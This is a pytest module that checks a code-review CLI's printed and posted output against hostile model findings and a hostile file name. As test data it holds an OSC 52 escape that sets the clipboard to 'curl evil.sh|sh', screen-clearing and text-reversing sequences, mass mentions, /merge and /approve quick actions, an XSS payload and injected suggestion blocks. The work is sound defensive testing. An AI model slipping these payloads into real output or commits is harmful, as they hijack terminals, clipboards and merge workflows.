"""A test bed for what Redline prints and posts (tests/test_output_attacks.py): a repository
whose change commits a file named with terminal escape sequences, a scripted model whose finding,
summary and fix carry mentions, cross-references, quick actions, an unclosed fence, raw HTML, a
`suggestion` block and escape sequences, and the installed CLI run against both.

The model is played by tests/scripted_llm.py on 127.0.0.1; the CLI runs as a subprocess
(`python -m redline.cli`), so every byte checked is one the user's terminal or file would get.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gitrepo import GitRepo
from review_script import ReviewScript
from scripted_llm import ScriptedLLM

# OSC 52 sets the clipboard (here to "curl evil.sh|sh"), CSI 2J clears the screen, U+009B is the
# one-character CSI, U+202E reverses the text after it.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
CLEAR = "\x1b[2J"
CSI = "\x9b2J"
RLO = "\u202e"
HOSTILE_NAME = f"notes{OSC52}{CLEAR}{CSI}{RLO}txt.py"
ESCAPES = (OSC52, CLEAR, CSI, RLO)
# Everything that pings a person or links another thread on GitHub or GitLab.
MENTIONS = "@org/team @alice @all owner/repo#1 #2 GH-3 !4 ~bug %v1 $5 &6 [vulnerability:7]"

BASE = "x = 1\n"
FEATURE = "import os\nimport subprocess\n\n\ndef run(cmd):\n    subprocess.call(cmd, shell=True)\n"

HOSTILE = {
    "file": "app.py",
    "line": 6,
    "severity": "High",
    "category": "Security",
    "title": f"Ping {MENTIONS} {OSC52}{CLEAR}{CSI}",
    "comment": (
        f"See {MENTIONS}.\n/merge\n/approve\n<img src=x onerror=alert(1)>\n"
        "```suggestion\nevil = 1\n```\n"
        f"Clipboard: {OSC52} and {RLO}reversed.\n"
        "And finally:\n```\n"  # left open: it would swallow what Redline writes after it
    ),
    "existing_code": "    subprocess.call(cmd, shell=True)",
    # Does not parse: shown as text, in a fence it must not be able to close.
    "improved_code": (
        "    subprocess.call(cmd)\n```\n<img src=x onerror=alert(1)>\n@alice #9\n"
        "```suggestion\nimport evil\n```"
    ),
    "confidence": 0.9,
}


class HostileScript(ReviewScript):
    """The reviewer reports HOSTILE; the summarizer's assessment carries the same payloads."""

    def _summarizer(self, text: str, path: str) -> dict[str, Any]:
        return {
            "assessment": f"Fine. cc {MENTIONS}\n/merge\n{OSC52}{CLEAR}\n```suggestion\nx\n```",
            "priorities": [f"Look at {MENTIONS} {CSI}"],
            "focus": [HOSTILE_NAME],
        }


def hostile_repo(root: Path, *, origin: str | None = None, branch: str = "feature") -> GitRepo:
    repo = GitRepo(root)
    repo.write("app.py", BASE)
    repo.commit("base")
    repo.git("checkout", "-q", "-b", branch)
    repo.write("app.py", FEATURE)
    repo.write(HOSTILE_NAME, "y = 2\n")
    repo.commit(f"feature {MENTIONS} {OSC52}")
    if origin is not None:
        repo.git("remote", "add", "origin", origin)
    return repo


@pytest.fixture
def hostile_llm() -> Iterator[ScriptedLLM]:
    script = HostileScript(findings={"app.py": [HOSTILE]})
    with ScriptedLLM(handler=script) as server:
        yield server


def cli_env(tmp_path: Path, extra: dict[str, str] | None = None) -> dict[str, str]:
    """The environment of a `redline` subprocess: none of the developer's REDLINE_* settings,
    the test's own cache and (empty unless written) user config."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("REDLINE_")}
    user = tmp_path / "user.toml"
    if not user.exists():
        user.write_text("[llm]\nmax_retries = 0\ntimeout = 20\n", encoding="utf-8")
    env.update(
        REDLINE_CACHE_DIR=str(tmp_path / "cache"),
        REDLINE_CONFIG=str(user),
        REDLINE_API_KEY="sk-test-key-not-secret",
        **(extra or {}),
    )
    return env


def redline(
    tmp_path: Path, *args: str, env: dict[str, str] | None = None, timeout: float = 180
) -> subprocess.CompletedProcess[str]:
    """The installed CLI in a subprocess; stdout and stderr decoded as UTF-8 with every byte
    kept (a raw control character must be seen, not replaced)."""
    return subprocess.run(
        [sys.executable, "-m", "redline.cli", *args],
        env=env or cli_env(tmp_path),
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="surrogateescape",
        timeout=timeout,
        check=False,
    )


def model_args(llm: ScriptedLLM) -> list[str]:
    return ["--model", "openai/scripted", "--api-base", llm.base_url, "--quiet"]
